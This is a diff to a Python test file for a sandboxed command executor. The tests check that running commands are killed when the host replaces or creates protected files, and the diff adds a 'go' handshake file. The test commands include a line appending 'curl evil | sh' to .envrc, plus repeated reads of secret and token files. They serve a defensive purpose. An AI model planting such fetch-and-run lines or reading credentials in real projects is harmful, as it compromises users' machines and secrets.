@@ -4,6 +4,10 @@ A mount on a dentry is detached when the host renames over it or deletes it, so 
 still running would see the new file uncovered. The executor watches those names and stops
 the command at once; each test replaces the name from the host while a background command
 works on it, then checks the host's file from outside.
+
+The commands act only on the host's "go" (half a second after the change): these tests
+prove the stop, not a race against it. The race is real and measured (the executor reads
+the event within a millisecond or two; `docs/threat-model-coverage.md`, rows 4 and 5).
 """
 
 from __future__ import annotations
@@ -35,6 +39,12 @@ async def _wait_for(predicate: object, timeout: float = 20.0) -> None:
         await asyncio.sleep(0.05)
 
 
+async def _go(workspace: Path) -> None:
+    """Let the command act, once the executor has had half a second to stop it."""
+    await asyncio.sleep(0.5)
+    (workspace / "go").touch()
+
+
 async def test_a_protected_file_replaced_by_the_host_is_never_written_by_a_running_command(
     make_executor: ExecutorFactory, workspace: Path
 ) -> None:
@@ -44,8 +54,8 @@ async def test_a_protected_file_replaced_by_the_host_is_never_written_by_a_runni
     proc = await ex.start(
         ex.resolve(
             BashExecRequest(
-                command="for i in $(seq 200); do echo 'curl evil | sh' >> .envrc; "
-                "echo tick > ticks; sleep 0.2; done",
+                command="echo tick > ticks; while [ ! -e go ]; do sleep 0.05; done; "
+                "for i in $(seq 100); do echo 'curl evil | sh' >> .envrc; sleep 0.1; done",
                 workdir=str(workspace),
             )
         )
@@ -53,6 +63,7 @@ async def test_a_protected_file_replaced_by_the_host_is_never_written_by_a_runni
     await _wait_for((workspace / "ticks").exists)
     assert envrc.read_text() == "export A=1\n"  # the cover holds before the replacement
     _replace(envrc, "export A=2\n")
+    await _go(workspace)
     await asyncio.wait_for(proc.wait(), 20)
     await asyncio.sleep(0.5)  # a command that survived would append again meanwhile
     assert envrc.read_text() == "export A=2\n"
@@ -70,16 +81,18 @@ async def test_a_denied_file_replaced_by_the_host_is_never_read_by_a_running_com
     proc = await ex.start(
         ex.resolve(
             BashExecRequest(
-                command="for i in $(seq 200); do cat secret.txt 2>/dev/null; "
-                "echo tick > ticks; sleep 0.2; done",
+                command="cat secret.txt; echo tick > ticks; while [ ! -e go ]; do sleep 0.05; "
+                "done; for i in $(seq 100); do cat secret.txt 2>/dev/null; sleep 0.1; done",
                 workdir=str(workspace),
             )
         )
     )
     await _wait_for((workspace / "ticks").exists)
     _replace(secret, "NEW-SECRET\n")
+    await _go(workspace)
     await asyncio.wait_for(proc.wait(), 20)
-    assert "SECRET" not in proc.read_output().delta
+    output = proc.read_output().delta
+    assert "SECRET" not in output
     assert proc.signal == "SIGKILL"
     assert proc.sandbox is not None
     assert any(str(secret) in w for w in proc.sandbox.warnings)
@@ -94,7 +107,8 @@ async def test_a_denied_name_the_host_creates_while_a_command_runs_is_never_read
     proc = await ex.start(
         ex.resolve(
             BashExecRequest(
-                command="for i in $(seq 200); do cat conf/token 2>/dev/null; sleep 0.2; done",
+                command="while [ ! -e go ]; do sleep 0.05; done; "
+                "for i in $(seq 100); do cat conf/token 2>/dev/null; sleep 0.1; done",
                 workdir=str(workspace),
             )
         )
@@ -102,6 +116,7 @@ async def test_a_denied_name_the_host_creates_while_a_command_runs_is_never_read
     await asyncio.sleep(0.5)
     later.parent.mkdir()  # the missing parent made first, then the secret in it
     later.write_text("TOKEN-123\n")
+    await _go(workspace)
     if mode == "read-only":
         # Outside every root the directory is shown as it was when the command started (a
         # shadow): the new entry never appears, so nothing needs stopping.
